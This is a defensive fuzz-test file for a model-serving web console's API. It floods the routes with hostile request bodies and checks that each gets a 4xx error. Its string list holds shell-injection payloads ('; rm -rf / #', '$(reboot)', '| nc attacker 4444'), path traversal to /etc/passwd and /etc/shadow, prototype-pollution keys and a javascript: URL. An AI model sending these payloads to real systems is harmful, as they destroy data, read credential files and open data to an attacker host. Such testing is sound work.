// A few thousand generated hostile bodies against every route that takes one: wrong types, huge strings,
// deep nesting, invalid UTF-8, prototype-pollution keys, shell metacharacters in options. Every answer must
// be a 4xx JSON error, the app must stay up, and no engine may start.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { logsBodySchema } from '@/app/api/engine/logs/schema';
import { startBodySchema } from '@/app/api/engine/start/schema';
import { resolveOptions } from '@/lib/engine/build-command';
import { findProfile } from '@/lib/engine/profiles';
import { type AppServer, startApp } from '../helpers/app-server';

let app: AppServer;

beforeAll(async () => {
  app = await startApp({
    VLM_CONSOLE_SIGNIN_MAX_FAILURES: '1000',
    VLM_CONSOLE_REQUEST_IMAGE_MAX_BYTES: '1000000',
  });
});

afterAll(async () => {
  await app?.stop();
});

/** Small deterministic PRNG (mulberry32), so a failure can be replayed. */
function rng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const NASTY_STRINGS = [
  '; rm -rf / #',
  '$(reboot)',
  '`id`',
  '| nc attacker 4444',
  '../../../../etc/passwd',
  '/etc/passwd',
  '\u0000\u0001\u001b[31m',
  '--host=0.0.0.0',
  '--api-key',
  'owner/name; touch /tmp/pwned',
  'https://evil.example/',
  'file:///etc/shadow',
  '💥'.repeat(50),
  '',
];
const KEYS = [
  'profile',
  'options',
  'messages',
  'params',
  'token',
  'code',
  'since',
  'after',
  '__proto__',
  'constructor',
  'prototype',
  'model',
  'port',
  'extraArgs',
  'role',
  'content',
];

function value(r: () => number, depth: number): unknown {
  const pick = Math.floor(r() * 9);
  if (depth > 4) return NASTY_STRINGS[Math.floor(r() * NASTY_STRINGS.length)];
  switch (pick) {
    case 0:
      return Math.floor(r() * 2 ** 40) * (r() < 0.5 ? -1 : 1);
    case 1:
      return r() < 0.5 ? Number.MAX_VALUE : -0.5;
    case 2:
      return NASTY_STRINGS[Math.floor(r() * NASTY_STRINGS.length)];
    case 3:
      return null;
    case 4:
      return r() < 0.5;
    case 5:
      return Array.from({ length: Math.floor(r() * 4) }, () => value(r, depth + 1));
    default: {
      const out: Record<string, unknown> = {};
      for (let i = 0; i < 1 + Math.floor(r() * 4); i++)
        out[KEYS[Math.floor(r() * KEYS.length)] ?? 'x'] = value(r, depth + 1);
      return out;
    }
  }
}

function body(r: () => number, i: number): string | Uint8Array<ArrayBuffer> {
  switch (i % 10) {
    case 0:
      return new Uint8Array(Array.from({ length: 20 }, () => Math.floor(r() * 256)));
    case 1: {
      let nested = '1';
      for (let d = 0; d < 200 + Math.floor(r() * 800); d++) nested = `{"a":${nested}}`;
      return nested;
    }
    case 2:
      return '{"profile":"demo","options":{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}}';
    case 3:
      return JSON.stringify({
        profile: 'demo',
        options: {
          model: NASTY_STRINGS[i % NASTY_STRINGS.length],
          extraArgs: ['--seed', NASTY_STRINGS[(i + 1) % NASTY_STRINGS.length]],
        },
      });
    case 4:
      return JSON.stringify({
        profile: 'vllm-custom',
        options: {
          model: 'a/b',
          servedModelName: NASTY_STRINGS[i % NASTY_STRINGS.length],
          port: value(r, 3),
        },
      });
    case 5:
      return '{"unterminated": "';
    case 6:
      return JSON.stringify({
        messages: [
          {
            role: 'user',
            content: [{ type: 'image_url', image_url: { url: `javascript:${'a'.repeat(i)}` } }],
          },
        ],
        params: value(r, 2),
      });
    default:
      return JSON.stringify(value(r, 0));
  }
}

/** Bodies that happen to be valid would legitimately succeed; they are not what this test is about. */
function isValid(route: string, raw: string | Uint8Array<ArrayBuffer>): boolean {
  if (typeof raw !== 'string') return false;
  let parsed: unknown;
  try {
    parsed = JSON.parse(raw);
  } catch {
    return false;
  }
  if (route === '/api/engine/logs') return logsBodySchema.safeParse(parsed).success;
  if (route === '/api/engine/start') {
    const start = startBodySchema.safeParse(parsed);
    const profile = start.success ? findProfile(start.data.profile) : undefined;
    return Boolean(profile && start.success && resolveOptions(profile, start.data.options).ok);
  }
  if (['/api/engine/stop', '/api/auth/sign-out', '/api/auth/rotate'].includes(route)) {
    return (
      typeof parsed === 'object' &&
      parsed !== null &&
      !Array.isArray(parsed) &&
      Object.keys(parsed).length === 0
    );
  }
  return false;
}

const ROUTES = [
  '/api/engine/start',
  '/api/engine/stop',
  '/api/engine/logs',
  '/api/chat',
  '/api/chat/00000000-0000-4000-8000-000000000000/stream',
  '/api/chat/00000000-0000-4000-8000-000000000000/stop',
  '/api/chat/not-a-uuid/stop',
  '/api/auth/sign-in',
  '/api/auth/sign-out',
  '/api/auth/rotate',
];

describe('fuzzing every route', () => {
  it('answers thousands of hostile bodies with 4xx JSON, stays up and starts nothing', async () => {
    const r = rng(20261127);
    const statuses = new Map<number, number>();
    let sent = 0;
    for (let i = 0; i < 3000; i++) {
      const route = ROUTES[i % ROUTES.length] ?? '/api/chat';
      const raw = body(r, i);
      if (isValid(route, raw)) continue;
      const res = await fetch(`${app.url}${route}`, {
        method: 'POST',
        headers: { 'Content-Type': r() < 0.9 ? 'application/json' : 'text/plain' },
        body: raw,
      });
      sent += 1;
      statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
      if (res.status < 400 || res.status >= 500) {
        throw new Error(`${route} answered ${res.status} to ${String(raw).slice(0, 200)}`);
      }
      const json = await res.json();
      expect(typeof json.error?.code).toBe('string');
    }
    expect(sent).toBeGreaterThan(2500);
    const huge = await fetch(`${app.url}/api/chat`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: `{"messages":"${'x'.repeat(12 * 1024 * 1024)}"}`,
    });
    expect(huge.status).toBe(413);
    const status = await (await fetch(`${app.url}/api/engine`)).json();
    expect(status.state).toBe('stopped');
    expect(status.launchId).toBeNull();
    expect(app.proc.exitCode).toBeNull();
  }, 180_000);
});
